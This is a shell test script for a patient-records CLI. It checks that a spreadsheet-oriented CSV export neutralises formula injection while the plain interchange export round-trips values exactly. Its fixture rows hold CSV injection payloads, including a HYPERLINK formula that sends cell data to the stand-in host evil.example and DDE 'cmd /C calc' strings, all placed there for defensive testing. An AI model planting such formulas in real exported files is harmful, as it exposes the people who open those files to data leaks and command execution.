#!/bin/sh
# Spreadsheet formulas in text fields (CSV injection). The interchange
# format keeps every value unchanged, so a text starting with =, +, -, @ or
# a tab round-trips exactly through export and import; the export meant for
# spreadsheets (export csv --spreadsheet) puts a single quote in front of
# every such non-numeric cell. The outcomes report's CSV carries no text
# from records.
. "$TOP/tests/lib/cli.sh"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
mkdir "$T/in"
cat >"$T/in/patients.csv" <<'CSV'
patient_id,clinic,sex,first_name,last_name,notes,phone
P1,C01,female,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0,-2+3
P2,C01,male,"	Tab",-Minus,=1+1,+41 22 000
P3,C01,male,Ann,'=quoted,plain,
CSV
run 0 init
run 0 import csv "$T/in"
run 0 patient add --patient_id P4 --clinic C01 --sex male --first_name '=cmd|x' --notes '@here'
run 0 course add --course_id K1 --patient_id P1 --modality prp --condition knee_oa \
	--start_date 2024-03-01 --planned_sessions 3 --interval_days 14 --status planned
run 0 course end K1 --status dropped --end_date 2024-04-01 --reason '=2*3'

# The interchange export: values unchanged; import -> export is exact.
run 0 export csv "$T/x1"
$PY - "$T/in/patients.csv" "$T/x1/patients.csv" <<'PY' || exit 1
import csv, sys
src = {r["patient_id"]: r for r in csv.DictReader(open(sys.argv[1], newline=""))}
out = {r["patient_id"]: r for r in csv.DictReader(open(sys.argv[2], newline=""))}
for pid, r in src.items():
    for k, v in r.items():
        if out[pid][k] != v:
            sys.exit(f"{pid}.{k}: exported {out[pid][k]!r}, imported {v!r}")
if out["P4"]["first_name"] != "=cmd|x" or out["P4"]["notes"] != "@here":
    sys.exit("P4 changed on export: %r" % out["P4"])
PY
grep -q '^K1,.*,=2\*3' "$T/x1/courses.csv" || { echo "end_reason changed:" >&2; cat "$T/x1/courses.csv" >&2; exit 1; }
PROLO_DB="$T/b.db" run 0 init
PROLO_DB="$T/b.db" run 0 import csv "$T/x1"
PROLO_DB="$T/b.db" run 0 export csv "$T/x2"
for f in "$T/x1"/*.csv; do
	cmp "$f" "$T/x2/$(basename "$f")" || { echo "round trip changed $(basename "$f")" >&2; exit 1; }
done

# The spreadsheet export: a quote in front of every cell a spreadsheet
# would evaluate, numbers and dates left alone.
run 0 export csv "$T/sheet" --spreadsheet
$PY - "$T/sheet" <<'PY' || exit 1
import csv, os, sys
d = sys.argv[1]
want = {("P1", "first_name"): "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        ("P1", "last_name"): "'+cmd|' /C calc'!A0",
        ("P1", "notes"): "'@SUM(1+1)*cmd|' /C calc'!A0",
        ("P1", "phone"): "'-2+3",
        ("P2", "first_name"): "'\tTab",
        ("P2", "last_name"): "'-Minus",
        ("P2", "notes"): "'=1+1",
        ("P2", "phone"): "'+41 22 000",
        ("P3", "last_name"): "'=quoted",   # already quoted text: not a formula
        ("P3", "notes"): "plain",
        ("P4", "first_name"): "'=cmd|x"}
rows = {r["patient_id"]: r for r in csv.DictReader(open(os.path.join(d, "patients.csv"), newline=""))}
for (pid, k), v in want.items():
    if rows[pid][k] != v:
        sys.exit(f"{pid}.{k}: {rows[pid][k]!r}, expected {v!r}")
for name in os.listdir(d):
    for r in csv.DictReader(open(os.path.join(d, name), newline="")):
        for k, v in r.items():
            if v and v[0] in "=+-@\t\r":
                try:
                    float(v)
                    continue
                except ValueError:
                    sys.exit(f"{name}: {k}={v!r} is not escaped")
PY
grep -q "^K1,.*,'=2\*3" "$T/sheet/courses.csv" || { echo "end_reason not escaped" >&2; exit 1; }

# The report's CSV: only built-in names and numbers.
run 0 report --format csv --out "$T/rep"
$PY - "$T/rep" <<'PY' || exit 1
import csv, os, sys
for name in os.listdir(sys.argv[1]):
    for row in csv.reader(open(os.path.join(sys.argv[1], name), newline="")):
        for v in row:
            if v and v[0] in "=+@\t\r'":
                sys.exit(f"{name}: cell {v!r}")
PY
echo ok
